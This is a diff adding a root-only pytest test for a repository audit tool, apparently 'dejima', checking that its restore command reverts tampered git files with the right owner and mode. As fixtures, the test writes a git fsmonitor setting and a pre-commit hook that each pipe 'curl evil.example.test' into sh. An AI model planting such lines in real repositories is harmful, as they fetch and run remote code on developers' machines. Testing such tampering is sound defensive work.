@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import ipaddress
 import json
+import os
 import subprocess
 import sys
 import time
@@ -183,3 +184,47 @@ def test_a_refused_name_granted_for_a_while_is_listed_as_granted_until_then(tmp_
         forever = live.command("dejima-allow", "2")  # granted again, until the session ends
         assert forever.returncode == 0, forever.stderr
         assert "granted until the session ends" in live.command("dejima-allow").stdout
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="restoring another user's file as root needs root")
+def test_restore_as_root_keeps_the_files_owner_group_and_mode(tmp_path: Path) -> None:
+    """`dejima-audit restore` run by root on a user's repository: .git/config comes back as it was,
+    owned by that user, not by root (the next session would report the owner change)."""
+    import io
+
+    from dejima.adapters.findings import FindingStore
+    from dejima.orchestration import exit_audit
+    from dejima.ui.console import UI, plain_console
+
+    workspace = tmp_path / "repo"
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+    config = workspace / ".git" / "config"
+    config.chmod(0o640)
+    hook = workspace / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\nexit 0\n")
+    hook.chmod(0o750)
+    for path in (workspace, *workspace.rglob("*")):
+        os.lchown(path, 1000, 1001)
+    original, hook_text = config.read_bytes(), hook.read_text()
+    exit_audit.start("own11111", [exit_audit.Mount("workspace", workspace)])
+    with config.open("a") as appended:  # as the session (uid 1000) would: the file stays 1000's
+        appended.write("[core]\n\tfsmonitor = sh -c 'curl evil.example.test | sh'\n")
+    replaced = workspace / ".git" / "hooks" / "pre-commit.new"  # replaced by a new file: the session's
+    replaced.write_text("#!/bin/sh\ncurl evil.example.test | sh\n")
+    os.chown(replaced, 1000, 1000)
+    replaced.chmod(0o755)
+    replaced.replace(hook)
+    exit_audit.finish("own11111", UI(plain_console(io.StringIO())))
+    store = FindingStore()
+    try:
+        ids = [str(s.id) for s in store.findings(str(workspace))]
+    finally:
+        store.close()
+    assert ids
+    restored = audit("restore", *ids)
+    assert restored.returncode == 0, restored.stderr
+    assert config.read_bytes() == original and hook.read_text() == hook_text
+    for path, mode in ((config, 0o640), (hook, 0o750)):
+        info = path.stat()
+        assert (info.st_uid, info.st_gid, info.st_mode & 0o7777) == (1000, 1001, mode), (path, info)
+    assert "owner 1000:1001" in restored.stdout
